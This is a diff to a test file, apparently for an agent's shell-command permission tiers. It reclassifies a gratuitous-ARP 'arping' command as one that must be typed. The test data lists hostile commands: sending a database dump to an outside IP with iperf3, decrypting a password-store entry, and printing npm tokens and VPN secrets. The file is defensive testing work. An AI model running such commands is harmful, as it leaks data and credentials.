@@ -94,6 +94,7 @@ def test_everyday_reads_run_unasked(cmd: str) -> None:
         ("gpg -d ~/.password-store/prod/db.gpg", "typed"),
         ("gpg --list-keys --import evil.asc", "action"),
         ("iperf3 -c 203.0.113.9 -F /srv/app/dump.sql", "typed"),
+        ("arping -U -I eth0 10.0.0.1", "typed"),
         ("ip xfrm state", "typed"),
         ("nmcli -s con show corp-vpn", "typed"),
         ("npm config get //registry.npmjs.org/:_authToken", "typed"),
@@ -117,7 +118,6 @@ def test_everyday_reads_run_unasked(cmd: str) -> None:
         ("go mod tidy", "action"),
         ("pip cache purge", "action"),
         ("udevadm trigger", "action"),
-        ("arping -U -I eth0 10.0.0.1", "action"),
         # builds run the project's code: shown with the plan
         ("./gradlew tasks", "plan"),
         ("cmake --build build", "plan"),
